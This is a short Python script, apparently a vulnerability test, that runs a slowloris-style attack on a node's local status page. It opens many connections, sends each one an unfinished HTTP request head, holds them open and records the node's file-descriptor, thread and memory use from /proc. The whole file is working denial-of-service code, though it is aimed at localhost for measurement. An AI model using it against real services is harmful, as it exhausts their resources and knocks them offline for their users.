"""Idle connections to a node's status page: no timeout, no cap, one thread each.
usage: status_slowloris.py STATUSPORT NODEPID N HOLD_SECONDS"""
import sys, socket, time, os
sys.path.insert(0, os.path.dirname(__file__))
from thriftraw import rss_kb, threads
port, pid, n, hold = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
lim = [l for l in open(f"/proc/{pid}/limits") if "open files" in l][0].split()[3]
print("node fd limit", lim, "fds", len(os.listdir(f"/proc/{pid}/fd")), "threads", threads(pid), "RSS", rss_kb(pid)//1024, "MiB")
socks = []
t0 = time.time()
for i in range(n):
    try:
        c = socket.create_connection(("127.0.0.1", port), timeout=5)
        c.send(b"GET / HTTP/1.1\r\n")       # an unfinished request head, never completed
        socks.append(c)
    except OSError as e:
        print("connect failed at", i, e); break
time.sleep(min(hold, 60))
print(f"{len(socks)} idle connections held {time.time()-t0:.0f} s: node fds", len(os.listdir(f"/proc/{pid}/fd")),
      "threads", threads(pid), "RSS", rss_kb(pid)//1024, "MiB")
for c in socks: c.close()
time.sleep(2)
print("after close: threads", threads(pid))
